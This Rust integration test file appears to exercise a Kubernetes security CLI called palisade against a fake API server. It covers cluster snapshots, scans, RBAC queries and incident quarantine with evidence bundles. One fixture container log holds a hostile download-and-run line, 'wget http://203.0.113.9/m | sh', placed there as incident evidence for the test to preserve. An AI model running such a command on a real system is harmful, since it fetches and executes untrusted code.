//! The binary against a fake API server (the real kube-rs client over HTTP):
//! `palisade snapshot` and the file it writes as every command's input, the
//! kubeconfig's resolution, and `incident quarantine` / `release` as an
//! operator runs them, with the evidence bundle checked by `tar` and
//! `sha256sum`, not by Palisade's own reader.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use palisade_cluster::testing::FakeApiServer;
use serde_json::{json, Value};

fn palisade(args: &[&str]) -> Output {
    palisade_env(args, &[])
}

/// Runs the binary with `env` set and KUBECONFIG unset unless given.
fn palisade_env(args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_palisade"));
    command
        .args(args)
        .env_remove("KUBECONFIG")
        .env_remove("KUBERNETES_SERVICE_HOST")
        .env_remove("KUBERNETES_SERVICE_PORT");
    for (k, v) in env {
        command.env(k, v);
    }
    command.output().expect("run palisade")
}

fn text(out: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn code(out: &Output) -> Option<i32> {
    out.status.code()
}

const TEMPLATE: &str = r#"package k8srequiredlabels
violation[{"msg": msg}] {
  provided := {label | input.review.object.metadata.labels[label]}
  required := {label | label := input.parameters.labels[_]}
  missing := required - provided
  count(missing) > 0
  msg := sprintf("you must provide labels: %v", [missing])
}
"#;

/// A small cluster: two namespaces, a privileged Deployment and its pods
/// (more pods than a page), a Service, a NetworkPolicy, RBAC, a Secret, a
/// Gatekeeper template with two constraints, a ValidatingAdmissionPolicy.
fn cluster() -> FakeApiServer {
    let server = FakeApiServer::start();
    {
        let mut s = server.state();
        s.serve(
            "templates.gatekeeper.sh",
            "v1",
            "ConstraintTemplate",
            "constrainttemplates",
            false,
        );
        s.serve(
            "constraints.gatekeeper.sh",
            "v1beta1",
            "K8sRequiredLabels",
            "k8srequiredlabels",
            false,
        );
        s.add(
            json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "shop",
            "labels": {"kubernetes.io/metadata.name": "shop", "owner": "team-shop"}}}),
        );
        s.add(json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "batch",
            "labels": {"kubernetes.io/metadata.name": "batch", "pod-security.kubernetes.io/enforce": "baseline"}}}));
        s.add(json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "web", "namespace": "shop", "uid": "d-web"},
            "spec": {"selector": {"matchLabels": {"app": "web"}}, "template": {"metadata": {"labels": {"app": "web"}},
            "spec": {"containers": [{"name": "app", "image": "web:1", "securityContext": {"privileged": true}}]}}}}));
        for i in 0..3 {
            s.add(json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": format!("web-{i}"), "namespace": "shop",
                "uid": format!("p-web-{i}"), "labels": {"app": "web"},
                "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment", "name": "web", "uid": "d-web", "controller": true}]},
                "spec": {"containers": [{"name": "app", "image": "web:1", "securityContext": {"privileged": true}}]},
                "status": {"phase": "Running"}}));
        }
        s.add(json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "job-1", "namespace": "batch", "uid": "p-job-1"},
            "spec": {"containers": [{"name": "c", "image": "job:1"}]}, "status": {"phase": "Running"}}));
        s.add(json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "web", "namespace": "shop"},
            "spec": {"selector": {"app": "web"}, "ports": [{"port": 80}]}}));
        s.add(json!({"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": "deny-all", "namespace": "shop"},
            "spec": {"podSelector": {}, "policyTypes": ["Ingress", "Egress"]}}));
        s.add(json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "exec", "namespace": "shop"},
            "rules": [{"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}]}));
        s.add(json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": "oncall-exec", "namespace": "shop"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "exec"},
            "subjects": [{"kind": "Group", "name": "oncall", "apiGroup": "rbac.authorization.k8s.io"}]}));
        s.add(json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "db", "namespace": "shop"},
            "type": "Opaque", "data": {"password": "aHVudGVyMg=="}}));
        s.add(json!({"apiVersion": "templates.gatekeeper.sh/v1", "kind": "ConstraintTemplate", "metadata": {"name": "k8srequiredlabels"},
            "spec": {"crd": {"spec": {"names": {"kind": "K8sRequiredLabels"}, "validation": {"openAPIV3Schema": {"type": "object",
                "properties": {"labels": {"type": "array", "items": {"type": "string"}}}}}}},
            "targets": [{"target": "admission.k8s.gatekeeper.sh", "rego": TEMPLATE}]}}));
        s.add(json!({"apiVersion": "constraints.gatekeeper.sh/v1beta1", "kind": "K8sRequiredLabels", "metadata": {"name": "ns-must-have-owner"},
            "spec": {"match": {"kinds": [{"apiGroups": [""], "kinds": ["Namespace"]}]}, "parameters": {"labels": ["owner"]}}}));
        s.add(json!({"apiVersion": "constraints.gatekeeper.sh/v1beta1", "kind": "K8sRequiredLabels", "metadata": {"name": "pods-need-team"},
            "spec": {"enforcementAction": "dryrun", "match": {"kinds": [{"apiGroups": [""], "kinds": ["Pod"]}]}, "parameters": {"labels": ["team"]}}}));
        s.add(json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicy", "metadata": {"name": "no-privileged"},
            "spec": {"failurePolicy": "Fail", "matchConstraints": {"resourceRules": [{"apiGroups": ["apps"], "apiVersions": ["v1"],
                "operations": ["CREATE", "UPDATE"], "resources": ["deployments"]}]},
            "validations": [{"expression": "object.spec.template.spec.containers.all(c, !has(c.securityContext) || !has(c.securityContext.privileged) || c.securityContext.privileged == false)",
                "message": "privileged containers are not allowed"}]}}));
        s.add(json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicyBinding", "metadata": {"name": "no-privileged"},
            "spec": {"policyName": "no-privileged", "validationActions": ["Deny"]}}));
    }
    server
}

#[test]
fn a_snapshot_file_is_every_commands_input() {
    let server = cluster();
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = server.kubeconfig(dir.path());
    let kubeconfig = kubeconfig.to_str().unwrap();
    let file = dir.path().join("cluster.yaml");
    let file = file.to_str().unwrap();
    let out = palisade(&[
        "snapshot",
        "-o",
        file,
        "--page-size",
        "2",
        "--kubeconfig",
        kubeconfig,
    ]);
    let (_, stderr) = text(&out);
    assert_eq!(code(&out), Some(0), "{stderr}");
    assert!(
        !stderr.contains("reading the cluster"),
        "no progress bar when standard error is not a terminal: {stderr}"
    );
    assert!(
        stderr.contains("wrote ") && stderr.contains("Pod: 4"),
        "{stderr}"
    );
    // Paginated: four pods in pages of two, the second asked with the first's continue token.
    {
        let s = server.state();
        let pod_lists: Vec<&str> = s
            .requests
            .iter()
            .filter(|r| r.path == "/api/v1/pods")
            .map(|r| r.query.as_str())
            .collect();
        assert_eq!(pod_lists, ["limit=2", "limit=2&continue=page-2"]);
    }
    let saved = std::fs::read_to_string(file).unwrap();
    assert!(
        saved.starts_with("# palisade snapshot of context fake"),
        "{saved}"
    );
    assert!(!saved.contains("aHVudGVyMg=="), "no secret value");
    assert!(
        !saved.contains("kind: Secret"),
        "Secrets left out by default"
    );
    assert!(
        saved.contains("kind: K8sRequiredLabels"),
        "constraints discovered"
    );

    // scan: the Deployment's privileged container, judged through the Deployment.
    let out = palisade(&["scan", file, "-o", "json", "--no-config"]);
    let (stdout, stderr) = text(&out);
    assert_eq!(code(&out), Some(1), "{stderr}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    let privileged: Vec<&Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "pss/privileged")
        .collect();
    assert!(!privileged.is_empty(), "{stdout}");
    assert!(
        privileged
            .iter()
            .all(|f| f["object"]["kind"] == "Deployment"),
        "{privileged:?}"
    );

    // pss plan: per namespace, from the same file.
    let out = palisade(&["pss", "plan", file, "-o", "json"]);
    let (stdout, stderr) = text(&out);
    assert_eq!(code(&out), Some(0), "{stderr}");
    let plan: Value = serde_json::from_str(&stdout).unwrap();
    let ns = |name: &str| {
        plan["namespaces"]
            .as_array()
            .unwrap()
            .iter()
            .find(|n| n["namespace"] == name)
            .cloned()
            .unwrap_or_else(|| panic!("{name} missing: {plan:#}"))
    };
    let shop = ns("shop");
    assert_eq!(shop["pods"], 3);
    assert_eq!(shop["satisfies"], "privileged");
    assert_eq!(shop["next"], "baseline");
    let blocking: Vec<&str> = shop["blocking"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| b["pod"].as_str().unwrap())
        .collect();
    assert_eq!(blocking, ["web-0", "web-1", "web-2"]);
    assert_eq!(ns("batch")["satisfies"], "baseline");
    assert_eq!(
        ns("batch")["command"],
        "kubectl label --overwrite namespace batch pod-security.kubernetes.io/warn=restricted pod-security.kubernetes.io/audit=restricted",
        "already enforces baseline: warn and audit at restricted next"
    );

    // policy audit: the cluster's own constraints and VAP, totals per constraint.
    let out = palisade(&["policy", "audit", file, "-o", "json"]);
    let (stdout, stderr) = text(&out);
    assert_eq!(code(&out), Some(1), "deny violations: {stderr}");
    let audit: Value = serde_json::from_str(&stdout).unwrap();
    let total = |name: &str| {
        audit["constraints"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["name"].as_str().unwrap().starts_with(name))
            .map(|c| c["totalViolations"].clone())
            .unwrap_or_else(|| panic!("{name} missing: {audit:#}"))
    };
    assert_eq!(total("ns-must-have-owner"), 1, "batch has no owner label");
    assert_eq!(total("pods-need-team"), 4, "every pod");
    // Once: the snapshot holds the VAP that also serves as the policy.
    assert_eq!(total("no-privileged"), 1, "the Deployment: {audit:#}");

    // rbac and netpol read the same file.
    let out = palisade(&[
        "rbac",
        "who-can",
        "create",
        "pods/exec",
        "-n",
        "shop",
        "-f",
        file,
    ]);
    let (stdout, stderr) = text(&out);
    assert_eq!(code(&out), Some(0), "{stderr}");
    assert!(stdout.contains("oncall"), "{stdout}");
    let out = palisade(&["netpol", "coverage", file]);
    let (stdout, stderr) = text(&out);
    assert_ne!(code(&out), Some(2), "{stdout}{stderr}");
    assert!(stdout.contains("batch"), "{stdout}");

    // The JSON form loads the same.
    let json_file = dir.path().join("cluster.json");
    let out = palisade(&[
        "snapshot",
        "-o",
        json_file.to_str().unwrap(),
        "--kubeconfig",
        kubeconfig,
    ]);
    assert_eq!(code(&out), Some(0), "{}", text(&out).1);
    let out = palisade(&["pss", "plan", json_file.to_str().unwrap(), "-o", "json"]);
    assert_eq!(code(&out), Some(0), "{}", text(&out).1);
    let again: Value = serde_json::from_str(&text(&out).0).unwrap();
    assert_eq!(
        again, plan,
        "the same plan from the YAML and the JSON snapshot"
    );
}

#[test]
fn kubeconfig_from_the_environment_context_flag_and_clear_errors() {
    let server = cluster();
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = server.kubeconfig(dir.path());
    let kubeconfig = kubeconfig.to_str().unwrap();
    let home = dir.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let home = home.to_str().unwrap();

    // $KUBECONFIG, with no flag.
    let out = palisade_env(
        &["snapshot", "-n", "shop", "-o", "yaml"],
        &[("KUBECONFIG", kubeconfig), ("HOME", home)],
    );
    let (stdout, stderr) = text(&out);
    assert_eq!(code(&out), Some(0), "{stderr}");
    assert!(stdout.contains("name: web-0"), "{stdout}");
    assert!(!stdout.contains("name: job-1"), "-n reads one namespace");
    // --cluster with $KUBECONFIG.
    let out = palisade_env(
        &["pss", "plan", "--cluster", "-o", "json"],
        &[("KUBECONFIG", kubeconfig), ("HOME", home)],
    );
    assert_eq!(code(&out), Some(0), "{}", text(&out).1);

    // --context names a context the kubeconfig lacks.
    let out = palisade_env(
        &["snapshot", "--context", "prod"],
        &[("KUBECONFIG", kubeconfig), ("HOME", home)],
    );
    let (_, stderr) = text(&out);
    assert_eq!(code(&out), Some(2));
    assert!(stderr.contains("prod"), "{stderr}");

    // No kubeconfig anywhere, not in a pod.
    let out = palisade_env(&["scan", "--cluster"], &[("HOME", home)]);
    let (_, stderr) = text(&out);
    assert_eq!(code(&out), Some(2));
    assert!(
        stderr.contains("no kubeconfig found") && stderr.contains("not running in a cluster"),
        "{stderr}"
    );

    // Expired credentials.
    server.state().unauthorized = true;
    let out = palisade(&["snapshot", "--kubeconfig", kubeconfig]);
    let (_, stderr) = text(&out);
    assert_eq!(code(&out), Some(2));
    assert!(stderr.contains("401 Unauthorized"), "{stderr}");
    server.state().unauthorized = false;

    // A kind that may not be listed: named with the permission; the file is still written.
    server.state().deny("list", "configmaps", None);
    let file = dir.path().join("partial.yaml");
    let out = palisade(&[
        "snapshot",
        "--out",
        file.to_str().unwrap(),
        "--kubeconfig",
        kubeconfig,
    ]);
    let (_, stderr) = text(&out);
    assert_eq!(code(&out), Some(2));
    assert!(
        stderr.contains("needs `list` on `configmaps` cluster-wide"),
        "{stderr}"
    );
    let saved = std::fs::read_to_string(&file).unwrap();
    assert!(saved.contains("# incomplete"), "{saved}");
    assert!(saved.contains("name: web-0"));

    // Nothing listens.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let dead = dir.path().join("dead");
    std::fs::write(
        &dead,
        std::fs::read_to_string(kubeconfig)
            .unwrap()
            .replace(&server.url(), &format!("http://127.0.0.1:{port}")),
    )
    .unwrap();
    let out = palisade(&[
        "rbac",
        "who-can",
        "get",
        "secrets",
        "-A",
        "--kubeconfig",
        dead.to_str().unwrap(),
    ]);
    let (_, stderr) = text(&out);
    assert_eq!(code(&out), Some(2));
    assert!(
        stderr.contains("cannot reach the cluster's API server"),
        "{stderr}"
    );
}

/// A pod with an init container and a restarted app container, behind a Service.
fn incident_cluster() -> FakeApiServer {
    let server = cluster();
    {
        let mut s = server.state();
        s.add(json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "api-1", "namespace": "shop", "uid": "p-api-1",
                "labels": {"app": "api"}},
            "spec": {"nodeName": "node-1", "serviceAccountName": "api",
                "initContainers": [{"name": "init", "image": "busybox:1"}],
                "containers": [{"name": "app", "image": "api:2"}]},
            "status": {"phase": "Running",
                "initContainerStatuses": [{"name": "init", "imageID": "docker.io/library/busybox@sha256:1111", "restartCount": 0}],
                "containerStatuses": [{"name": "app", "imageID": "registry.example/api@sha256:2222", "restartCount": 1,
                    "lastState": {"terminated": {"exitCode": 137}}}]}}));
        s.add(json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "api", "namespace": "shop"},
            "spec": {"selector": {"app": "api"}}}));
        s.add(json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "api", "namespace": "shop"}}));
        s.add(
            json!({"apiVersion": "v1", "kind": "Node", "metadata": {"name": "node-1"}, "spec": {}}),
        );
        s.add(json!({"apiVersion": "v1", "kind": "Event", "metadata": {"name": "api-1.1", "namespace": "shop"},
            "involvedObject": {"kind": "Pod", "name": "api-1", "namespace": "shop", "uid": "p-api-1"}, "reason": "BackOff"}));
        for (container, previous, log) in [
            ("init", false, "init done\n"),
            ("app", false, "serving\n"),
            ("app", true, "wget http://203.0.113.9/m | sh\n"),
        ] {
            s.logs.insert(
                ("shop".into(), "api-1".into(), container.into(), previous),
                log.into(),
            );
        }
    }
    server
}

fn writes(server: &FakeApiServer) -> Vec<String> {
    server
        .state()
        .writes()
        .iter()
        .filter(|r| !r.path.ends_with("selfsubjectreviews"))
        .map(|r| format!("{} {}", r.method, r.path))
        .collect()
}

fn bundles(dir: &Path) -> Vec<PathBuf> {
    let mut found: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.to_string_lossy().ends_with(".tar.gz"))
        .collect();
    found.sort();
    found
}

fn run_in(dir: &Path, program: &str, args: &[&str]) -> Output {
    Command::new(program)
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap_or_else(|e| panic!("{program}: {e}"))
}

#[test]
fn quarantine_dry_run_apply_rerun_and_release_from_the_command_line() {
    let server = incident_cluster();
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = server.kubeconfig(dir.path());
    let kubeconfig = kubeconfig.to_str().unwrap();
    let evidence = dir.path().join("evidence");
    let evidence_arg = evidence.to_str().unwrap();
    let quarantine = |extra: &[&str]| {
        let mut args = vec![
            "incident",
            "quarantine",
            "-n",
            "shop",
            "api-1",
            "--reason",
            "miner alert",
            "--case",
            "IR-9",
            "--cordon",
            "--kubeconfig",
            kubeconfig,
            "--evidence-dir",
            evidence_arg,
        ];
        args.extend_from_slice(extra);
        palisade(&args)
    };

    // --dry-run: the plan and every object, nothing written to the cluster.
    let out = quarantine(&["--dry-run"]);
    let (stdout, stderr) = text(&out);
    assert_eq!(code(&out), Some(0), "{stderr}");
    assert!(writes(&server).is_empty(), "{:?}", writes(&server));
    let steps: Vec<&str> = stdout
        .lines()
        .filter_map(|l| l.trim_start().strip_prefix("planned"))
        .map(|l| l.split_whitespace().next().unwrap())
        .collect();
    assert_eq!(
        steps,
        [
            "network-policy",
            "services",
            "label-pod",
            "evidence",
            "cordon"
        ],
        "{stdout}"
    );
    for object_line in [
        "| kind: NetworkPolicy",
        "name: palisade-quarantine-api-1",
        "palisade.dev/quarantine: p-api-1",
        "- Ingress",
        "- Egress",
        "palisade.dev/quarantine-reason: \"miner alert\"",
        "palisade.dev/quarantine-case: IR-9",
        "app: null",
        "unschedulable: true",
    ] {
        assert!(
            stdout.contains(object_line),
            "{object_line} not in {stdout}"
        );
    }
    assert!(bundles(&evidence).is_empty(), "no evidence in a dry run");

    // Apply: every step printed, in order; the bundle checked with tar and sha256sum.
    let out = quarantine(&[]);
    let (stdout, stderr) = text(&out);
    assert_eq!(code(&out), Some(0), "{stdout}{stderr}");
    let steps: Vec<(&str, &str)> = stdout
        .lines()
        .filter_map(|l| {
            let mut words = l.split_whitespace();
            Some((words.next()?, words.next()?))
        })
        .collect();
    assert_eq!(
        steps,
        [
            ("done", "network-policy"),
            ("done", "services"),
            ("done", "label-pod"),
            ("done", "evidence"),
            ("done", "cordon"),
            ("done", "bundle")
        ],
        "{stdout}"
    );
    assert_eq!(
        writes(&server),
        [
            "PATCH /apis/networking.k8s.io/v1/namespaces/shop/networkpolicies/palisade-quarantine-api-1",
            "PATCH /api/v1/namespaces/shop/pods/api-1",
            "PATCH /api/v1/nodes/node-1"
        ]
    );
    let found = bundles(&evidence);
    assert_eq!(found.len(), 1, "{found:?}");
    let bundle_name = found[0].file_name().unwrap().to_str().unwrap().to_string();
    let sidecar = run_in(
        &evidence,
        "sha256sum",
        &["-c", &format!("{bundle_name}.sha256")],
    );
    assert!(sidecar.status.success(), "{}", text(&sidecar).0);
    let unpacked = dir.path().join("unpacked");
    std::fs::create_dir_all(&unpacked).unwrap();
    let untar = run_in(&unpacked, "tar", &["-xzf", found[0].to_str().unwrap()]);
    assert!(untar.status.success(), "{}", text(&untar).1);
    let root = unpacked.join(bundle_name.trim_end_matches(".tar.gz"));
    let check = run_in(&root, "sha256sum", &["-c", "SHA256SUMS"]);
    let (sums, _) = text(&check);
    assert!(check.status.success(), "{sums}");
    let manifest: Value =
        serde_json::from_str(&std::fs::read_to_string(root.join("manifest.json")).unwrap())
            .unwrap();
    let listed: Vec<&str> = manifest["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    for expected in [
        "pod.json",
        "pod-before-quarantine.json",
        "events.json",
        "logs/init.log",
        "logs/app.log",
        "logs/app.previous.log",
        "images.json",
        "node-name.txt",
        "node.json",
        "serviceaccount.json",
        "rbac/permissions.txt",
        "network-policies.json",
    ] {
        assert!(listed.contains(&expected), "{expected} not in {listed:?}");
        assert!(
            sums.contains(&format!("{expected}: OK")),
            "{expected} not checked: {sums}"
        );
    }
    for entry in manifest["files"].as_array().unwrap() {
        let at = entry["collectedAt"].as_str().unwrap();
        assert!(at.len() == 20 && at.ends_with('Z'), "{entry}");
    }
    assert_eq!(manifest["case"], "IR-9");
    assert_eq!(manifest["operator"], "alice@example.com");
    assert_eq!(manifest["originalLabels"]["app"], "api");
    assert!(std::fs::read_to_string(root.join("logs/app.previous.log"))
        .unwrap()
        .contains("203.0.113.9"));
    let images = std::fs::read_to_string(root.join("images.json")).unwrap();
    assert!(images.contains("sha256:1111") && images.contains("sha256:2222"));
    let policies = std::fs::read_to_string(root.join("network-policies.json")).unwrap();
    assert!(policies.contains("deny-all"), "{policies}");

    // Re-run: nothing changes in the cluster; a second bundle.
    let before = writes(&server).len();
    let out = quarantine(&[]);
    let (stdout, stderr) = text(&out);
    assert_eq!(code(&out), Some(0), "{stderr}");
    assert_eq!(writes(&server).len(), before, "{stdout}");
    for step in ["network-policy", "label-pod", "cordon"] {
        assert!(
            stdout
                .lines()
                .any(|l| l.split_whitespace().take(2).eq(["unchanged", step])),
            "{step}: {stdout}"
        );
    }
    assert_eq!(bundles(&evidence).len(), 2);

    // Release: labels back, policy deleted, node uncordoned, evidence kept.
    let out = palisade(&[
        "incident",
        "release",
        "-n",
        "shop",
        "api-1",
        "--uncordon",
        "--kubeconfig",
        kubeconfig,
        "--audit-log",
        evidence.join("audit.jsonl").to_str().unwrap(),
    ]);
    let (stdout, stderr) = text(&out);
    assert_eq!(code(&out), Some(0), "{stderr}");
    assert!(stdout.contains("restored label(s) app=api"), "{stdout}");
    {
        let s = server.state();
        let pod = s.get("pods", "shop", "api-1").unwrap();
        assert_eq!(pod["metadata"]["labels"], json!({"app": "api"}));
        assert!(s
            .get("networkpolicies", "shop", "palisade-quarantine-api-1")
            .is_none());
        assert!(s.get("nodes", "", "node-1").unwrap()["spec"]
            .get("unschedulable")
            .is_none());
        assert!(s.get("networkpolicies", "shop", "deny-all").is_some());
    }
    assert_eq!(bundles(&evidence).len(), 2, "evidence is kept");

    // The audit trail: every step of the three runs, in order.
    let trail: Vec<Value> = std::fs::read_to_string(evidence.join("audit.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let summary: Vec<String> = trail
        .iter()
        .map(|l| {
            format!(
                "{} {} {}{}",
                l["action"].as_str().unwrap_or(""),
                l["step"].as_str().unwrap_or(""),
                l["status"].as_str().unwrap_or(""),
                if l["dryRun"] == true {
                    " (dry run)"
                } else {
                    ""
                }
            )
        })
        .collect();
    assert_eq!(
        summary[..6],
        [
            "quarantine network-policy planned (dry run)",
            "quarantine services planned (dry run)",
            "quarantine label-pod planned (dry run)",
            "quarantine evidence planned (dry run)",
            "quarantine cordon planned (dry run)",
            "quarantine network-policy done",
        ]
    );
    assert_eq!(
        summary[summary.len() - 3..],
        [
            "release unlabel-pod done",
            "release network-policy done",
            "release uncordon done"
        ]
    );
    assert!(trail
        .iter()
        .filter(|l| l["dryRun"] == false)
        .all(|l| l["operator"] == "alice@example.com"));
}

/// The `rbac-risk/pod-exec` findings of a `scan -o json` report.
fn pod_exec_findings(out: &Output) -> usize {
    let (stdout, stderr) = text(out);
    let report: Value =
        serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{e}: {stdout}{stderr}"));
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "rbac-risk/pod-exec")
        .count()
}

#[test]
fn scan_judges_rbac_risks_by_the_servers_version() {
    let server = cluster();
    {
        let mut s = server.state();
        s.git_version = Some("v1.34.2-gke.1200".into());
        // `get` alone opens a shell before 1.35 (a WebSocket upgrade).
        s.add(json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "exec-get", "namespace": "batch"},
            "rules": [{"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["get"]}]}));
        s.add(json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": "carol-exec", "namespace": "batch"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "exec-get"},
            "subjects": [{"kind": "User", "name": "carol", "apiGroup": "rbac.authorization.k8s.io"}]}));
    }
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = server.kubeconfig(dir.path());
    let kubeconfig = kubeconfig.to_str().unwrap();
    let scan = |extra: &[&str]| {
        let mut args = vec![
            "scan",
            "--cluster",
            "--kubeconfig",
            kubeconfig,
            "--enable",
            "rbac-risk/*",
            "-o",
            "json",
            "--no-config",
        ];
        args.extend(extra);
        palisade(&args)
    };
    // 1.34: both the `create` and the `get` grant open exec.
    let out = scan(&[]);
    assert_eq!(code(&out), Some(1), "{}", text(&out).1);
    assert_eq!(pod_exec_findings(&out), 2, "{}", text(&out).0);
    assert!(
        text(&out).1.contains(
            "Kubernetes version 1.34 (the server of context fake reports v1.34.2-gke.1200"
        ),
        "{}",
        text(&out).1
    );
    // The flag wins over the server: from 1.35 only the `create` grant does.
    let out = scan(&["--kubernetes-version", "1.35"]);
    assert_eq!(pod_exec_findings(&out), 1, "{}", text(&out).0);
    // A 1.35 server, read live.
    server.state().git_version = Some("v1.35.1".into());
    let out = scan(&[]);
    assert_eq!(pod_exec_findings(&out), 1, "{}", text(&out).0);

    // A saved snapshot records the version, and an offline scan uses it.
    let file = dir.path().join("cluster.yaml");
    let out = palisade(&[
        "snapshot",
        "-o",
        file.to_str().unwrap(),
        "--kubeconfig",
        kubeconfig,
    ]);
    assert_eq!(code(&out), Some(0), "{}", text(&out).1);
    let saved = std::fs::read_to_string(&file).unwrap();
    assert!(saved.contains("\n# server version v1.35.1\n"), "{saved}");
    server.state().git_version = Some("v1.34.0".into());
    let offline = |extra: &[&str]| {
        let mut args = vec![
            "scan",
            file.to_str().unwrap(),
            "--enable",
            "rbac-risk/*",
            "-o",
            "json",
            "--no-config",
        ];
        args.extend(extra);
        palisade(&args)
    };
    let out = offline(&[]);
    assert_eq!(pod_exec_findings(&out), 1, "{}", text(&out).0);
    assert!(
        text(&out).1.contains("records server version v1.35.1"),
        "{}",
        text(&out).1
    );
    let out = offline(&["--kubernetes-version", "v1.34.9"]);
    assert_eq!(pod_exec_findings(&out), 2, "{}", text(&out).0);
    // A bad version is a usage error.
    let out = offline(&["--kubernetes-version", "latest"]);
    assert_eq!(code(&out), Some(2));
    assert!(
        text(&out).1.contains("invalid Kubernetes version"),
        "{}",
        text(&out).1
    );

    // The JSON form has no place for the version: it says so, and records none.
    let json_file = dir.path().join("cluster.json");
    let out = palisade(&[
        "snapshot",
        "-o",
        json_file.to_str().unwrap(),
        "--kubeconfig",
        kubeconfig,
    ]);
    assert_eq!(code(&out), Some(0), "{}", text(&out).1);
    assert!(
        text(&out)
            .1
            .contains("server v1.34.0 (not recorded in JSON)"),
        "{}",
        text(&out).1
    );
}

#[test]
fn report_judges_rbac_risks_by_the_servers_version_unless_given() {
    let server = cluster();
    server.state().git_version = Some("v1.34.2".into());
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = server.kubeconfig(dir.path());
    let kubeconfig = kubeconfig.to_str().unwrap();
    let html = dir.path().join("report.html");
    let report = |extra: &[&str]| {
        let mut args = vec![
            "report",
            "--cluster",
            "--kubeconfig",
            kubeconfig,
            "--out",
            html.to_str().unwrap(),
            "--no-config",
        ];
        args.extend(extra);
        palisade(&args)
    };
    let version_reads = || {
        server
            .state()
            .requests
            .iter()
            .filter(|r| r.path == "/version")
            .count()
    };
    let out = report(&[]);
    assert!(
        text(&out)
            .1
            .contains("Kubernetes version 1.34 (the server of context fake reports v1.34.2"),
        "{}",
        text(&out).1
    );
    assert_eq!(version_reads(), 1);
    // The flag wins, and the server is not asked.
    let out = report(&["--kubernetes-version", "1.35"]);
    assert!(html.exists(), "{}", text(&out).1);
    assert_eq!(version_reads(), 1, "{}", text(&out).1);
}
